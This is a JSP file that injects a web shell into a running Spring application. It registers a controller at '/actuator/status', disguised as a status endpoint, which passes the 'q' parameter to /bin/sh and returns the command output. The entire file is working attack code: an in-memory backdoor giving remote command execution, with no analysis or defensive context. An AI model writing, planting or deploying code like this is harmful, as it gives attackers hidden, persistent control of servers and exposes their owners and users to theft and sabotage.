<%@ page import="org.springframework.web.context.WebApplicationContext,org.springframework.web.context.request.RequestContextHolder" %>
<%@ page import="org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping,org.springframework.web.servlet.mvc.method.RequestMappingInfo" %>
<%@ page import="org.springframework.web.servlet.mvc.condition.*,java.lang.reflect.Method,java.io.*" %>
<%!
    public static class StatusController {
        public void status(HttpServletRequest request, HttpServletResponse response) throws Exception {
            String arg = request.getParameter("q");
            if (arg != null) {
                java.util.Scanner sc = new java.util.Scanner(Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", arg}).getInputStream()).useDelimiter("\\A");
                response.getWriter().println(sc.hasNext() ? sc.next() : "");
            }
        }
    }
%>
<%
    WebApplicationContext context = (WebApplicationContext) RequestContextHolder.currentRequestAttributes().getAttribute("org.springframework.web.servlet.DispatcherServlet.CONTEXT", 0);
    RequestMappingHandlerMapping mapping = context.getBean(RequestMappingHandlerMapping.class);
    Method method = StatusController.class.getMethod("status", HttpServletRequest.class, HttpServletResponse.class);
    PatternsRequestCondition url = new PatternsRequestCondition("/actuator/status");
    RequestMethodsRequestCondition ms = new RequestMethodsRequestCondition();
    RequestMappingInfo info = new RequestMappingInfo(url, ms, null, null, null, null, null);
    mapping.registerMapping(info, new StatusController(), method);
    out.print("registered");
%>
